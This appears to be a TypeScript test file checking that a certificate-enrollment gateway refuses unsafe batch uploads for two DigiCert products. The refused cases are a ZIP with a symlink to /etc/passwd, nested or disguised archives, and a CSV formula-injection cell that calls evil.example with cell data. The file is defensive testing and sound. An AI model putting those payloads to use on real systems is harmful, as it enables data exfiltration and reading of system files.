import { mkdtemp, readdir, rm } from "node:fs/promises";
import { type IncomingMessage, request as httpRequest } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { Zip, ZipDeflate, zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DTM_IDS, IOT_PROFILE_IDS } from "../../simulator/index.js";
import { generateCsr } from "../helpers/pki.js";
import { type Stack, startStack } from "../helpers/stack.js";

/*
 * Batch uploads to both products that DigiCert must never see: a ZIP holding a symbolic link, a nested archive, or a
 * CSV cell a spreadsheet would run as a formula. Each is refused by the gateway with the ZIP entry, or the row and
 * column, named; the simulator's counters prove that nothing but reads reached it (no upload), and the gateway's
 * spool directory is empty afterwards. The same files without the bad part are accepted, so the bad part is what was
 * refused.
 */

let stack: Stack;
let uploadDir: string;
let csrs: string[];

beforeAll(async () => {
  uploadDir = await mkdtemp(join(tmpdir(), "batch-refusals-test-"));
  stack = await startStack({
    simulator: { batchStepMs: 50, dtmJobStepMs: 50, seedCertificates: 1, seedIotCertificates: 0 },
    uploadTmpDir: uploadDir,
  });
  csrs = await Promise.all(
    [1, 2, 3].map(async (n) => (await generateCsr({ subject: `CN=device-${n}.example.com` })).pem),
  );
});
afterAll(async () => {
  await stack?.close();
  if (uploadDir) await rm(uploadDir, { recursive: true, force: true });
});

const RESULT = `
  __typename
  ... on InvalidBatchFileError { code message field problems { row column entry message } }
  ... on Error { code message }`;

interface Product {
  name: string;
  mutation: string;
  input: Record<string, unknown>;
  /** The simulator's route that creates a job (the upload). */
  createRoute: string;
  created: string;
  /** A client-side CSV: a header, then one row per [device, common name, csr]. */
  csv(rows: readonly (readonly [string, string, string])[]): string;
}

function cell(value: string): string {
  return `"${value.replaceAll('"', '""')}"`;
}

const PRODUCTS: readonly Product[] = [
  {
    name: "IoT Trust Manager",
    mutation: `mutation($input: CreateIotBatchEnrollmentInput!) { result: createIotBatchEnrollment(input: $input) { ${RESULT} } }`,
    input: {
      enrollmentProfileId: IOT_PROFILE_IDS.deviceFlexible,
      keyGeneration: "CLIENT_SIDE",
      certificateFormat: "JSON",
    },
    createRoute: "POST /iot/api/v1/batch-enroll",
    created: "IotBatchEnrollmentCreated",
    csv: (rows) =>
      ["DEVICE_IDENTIFIER,subject.common_name,csr", ...rows.map((row) => row.map(cell).join(","))].join(
        "\r\n",
      ) + "\r\n",
  },
  {
    name: "Device Trust Manager",
    mutation: `mutation($input: CreateDeviceRegistrationBatchInput!) { result: createDeviceRegistrationBatch(input: $input) { ${RESULT} } }`,
    input: {
      name: "Refusals",
      deviceGroupId: DTM_IDS.deviceGroups.factoryLine,
      certificatePolicyId: DTM_IDS.certificatePolicies.bootstrapClient,
    },
    createRoute: "POST /devicetrustmanager/certificate-batch-service/api/v1/jobs",
    created: "DeviceRegistrationBatchCreated",
    csv: (rows) =>
      ["device_name,subject.common_name,csr", ...rows.map((row) => row.map(cell).join(","))].join("\r\n") +
      "\r\n",
  },
];

type Problem = { row: number | null; column: string | null; entry: string | null; message: string };

/** Uploads `file` as a GraphQL multipart request; returns the mutation's result. */
async function upload(product: Product, file: Uint8Array | string, fileName: string) {
  const form = new FormData();
  form.set(
    "operations",
    JSON.stringify({ query: product.mutation, variables: { input: { ...product.input, file: null } } }),
  );
  form.set("map", JSON.stringify({ 0: ["variables.input.file"] }));
  form.set("0", new Blob([typeof file === "string" ? file : new Uint8Array(file)]), fileName);
  const res = await fetch(stack.url, {
    method: "POST",
    headers: { authorization: `Bearer ${await stack.token()}`, "x-graphql-csrf": "1" },
    body: form,
  });
  const body = (await res.json()) as { data?: { result: any }; errors?: unknown };
  expect(body.errors).toBeUndefined();
  return body.data!.result as { __typename: string; code?: string; problems?: Problem[] };
}

/** Uploads `file`, expects InvalidBatchFileError, and that nothing but reads reached DigiCert. */
async function refused(product: Product, file: Uint8Array | string, fileName: string): Promise<Problem[]> {
  stack.simulator.resetCounters();
  const result = await upload(product, file, fileName);
  expect(result).toMatchObject({ __typename: "InvalidBatchFileError", code: "INVALID_BATCH_FILE" });
  expect(stack.simulator.requestCount(product.createRoute)).toBe(0);
  // The profile, policy or group may be read; nothing is written.
  for (const route of Object.keys(stack.simulator.requestCounts())) expect(route).toMatch(/^GET /);
  expect(await readdir(uploadDir)).toEqual([]);
  return result.problems!;
}

async function accepted(product: Product, file: Uint8Array | string, fileName: string): Promise<void> {
  stack.simulator.resetCounters();
  const result = await upload(product, file, fileName);
  expect(result.__typename, JSON.stringify(result)).toBe(product.created);
  expect(stack.simulator.requestCount(product.createRoute)).toBe(1);
}

/** A ZIP whose entries carry Unix modes (made by Unix), as Info-ZIP writes them. */
function zipWithModes(entries: readonly { name: string; data: string | Uint8Array; mode: number }[]): Buffer {
  const chunks: Uint8Array[] = [];
  const zip = new Zip((error, data) => {
    if (error) throw error;
    chunks.push(data);
  });
  for (const { name, data, mode } of entries) {
    const entry = new ZipDeflate(name, { level: 6 });
    Object.assign(entry, { os: 3, attrs: (mode << 16) >>> 0 });
    zip.add(entry);
    entry.push(typeof data === "string" ? Buffer.from(data) : data, true);
  }
  zip.end();
  return Buffer.concat(chunks);
}

const REGULAR = 0o100644;
const SYMLINK = 0o120777;

for (const product of PRODUCTS) {
  describe(`${product.name} batch uploads`, () => {
    it("accept a ZIP of regular CSR files, and a CSV, that have none of the problems below", async () => {
      const zip = zipWithModes([
        { name: "accepted-1.csr", data: csrs[0]!, mode: REGULAR },
        { name: "accepted-2.csr", data: csrs[1]!, mode: REGULAR },
      ]);
      await accepted(product, zip, "devices.zip");
      const csv = product.csv([["accepted-3", "device-3.example.com", csrs[2]!]]);
      await accepted(product, csv, "devices.csv");
    });

    it("refuse a ZIP holding a symbolic link, naming the entry, and send nothing", async () => {
      const zip = zipWithModes([
        { name: "device-1.csr", data: csrs[0]!, mode: REGULAR },
        { name: "device-2.csr", data: "/etc/passwd", mode: SYMLINK },
      ]);
      expect(await refused(product, zip, "devices.zip")).toEqual([
        {
          row: null,
          column: null,
          entry: "device-2.csr",
          message:
            "The entry is a symbolic link; only regular files are accepted (a link can point outside the archive).",
        },
      ]);
    });

    it("refuse a nested archive by its name, and one named as a CSV by its bytes, naming the entry, and send nothing", async () => {
      const inner = zipSync({ "device-1.csr": Buffer.from(csrs[0]!) });
      const byName = zipSync({ "device-2.csr": Buffer.from(csrs[1]!), "more.zip": inner });
      expect(await refused(product, byName, "devices.zip")).toEqual([
        expect.objectContaining({
          row: null,
          entry: "more.zip",
          message: expect.stringMatching(
            /^The entry is an archive \(\.zip, ZIP\); nested archives are refused/,
          ),
        }),
      ]);
      const csv = product.csv([["device-1", "device-1.example.com", csrs[0]!]]);
      const byBytes = zipSync({ "devices.csv": gzipSync(Buffer.from(csv)) });
      expect(await refused(product, byBytes, "devices.zip")).toEqual([
        expect.objectContaining({
          row: null,
          entry: "devices.csv",
          message: expect.stringMatching(/^The entry is an archive \(gzip\), whatever its name says/),
        }),
      ]);
    });

    it("refuse a CSV cell a spreadsheet would run as a formula, naming the row and column, and send nothing", async () => {
      const csv = product.csv([
        ["device-1", "device-1.example.com", csrs[0]!],
        ["device-2", '=HYPERLINK("http://evil.example/?"&A1)', csrs[1]!],
      ]);
      const expected = {
        row: 2,
        column: "subject.common_name",
        message:
          'The cell starts with "=", which a spreadsheet would run as a formula (CSV injection); remove that character.',
      };
      expect(await refused(product, csv, "devices.csv")).toEqual([{ ...expected, entry: null }]);
      // The same CSV zipped: the entry is named too.
      expect(await refused(product, zipSync({ "devices.csv": Buffer.from(csv) }), "devices.zip")).toEqual([
        { ...expected, entry: "devices.csv" },
      ]);
    });

    it("refuse a CSV whose header is wrong as soon as it arrives, answering before the client has sent the rest", async () => {
      stack.simulator.resetCounters();
      const boundary = "----refused-while-arriving";
      const operations = { query: product.mutation, variables: { input: { ...product.input, file: null } } };
      const head = Buffer.from(
        [
          `--${boundary}\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${JSON.stringify(operations)}\r\n`,
          `--${boundary}\r\nContent-Disposition: form-data; name="map"\r\n\r\n{"0":["variables.input.file"]}\r\n`,
          `--${boundary}\r\nContent-Disposition: form-data; name="0"; filename="devices.csv"\r\nContent-Type: text/csv\r\n\r\n`,
          "colour,size\r\n",
          "blue,large\r\n".repeat(2000),
        ].join(""),
      );
      // The rest of the file, sent only once the answer is in.
      const rest = Buffer.concat([
        Buffer.from("red,small\r\n".repeat(200_000)),
        Buffer.from(`\r\n--${boundary}--\r\n`),
      ]);
      const request = httpRequest(stack.url, {
        method: "POST",
        headers: {
          authorization: `Bearer ${await stack.token()}`,
          "x-graphql-csrf": "1",
          "content-type": `multipart/form-data; boundary=${boundary}`,
          "content-length": String(head.length + rest.length),
        },
      });
      const response = new Promise<IncomingMessage>((resolve, reject) => {
        request.once("response", resolve);
        request.once("error", reject);
      });
      request.write(head);
      const answer = await response;
      const chunks: Buffer[] = [];
      for await (const chunk of answer) chunks.push(chunk as Buffer);
      const body = JSON.parse(Buffer.concat(chunks).toString("utf8")) as {
        data?: { result: any };
        errors?: unknown;
      };
      expect(answer.statusCode).toBe(200);
      expect(body.errors).toBeUndefined();
      expect(body.data!.result).toMatchObject({
        __typename: "InvalidBatchFileError",
        code: "INVALID_BATCH_FILE",
      });
      expect(body.data!.result.problems[0]).toMatchObject({ row: null, entry: null });
      // The gateway reads the rest and drops it: the client sends it all without an error.
      await new Promise<void>((resolve, reject) => {
        request.once("error", reject);
        request.end(rest, () => resolve());
      });
      expect(stack.simulator.requestCount(product.createRoute)).toBe(0);
      for (const route of Object.keys(stack.simulator.requestCounts())) expect(route).toMatch(/^GET /);
      expect(await readdir(uploadDir)).toEqual([]);
    });
  });
}
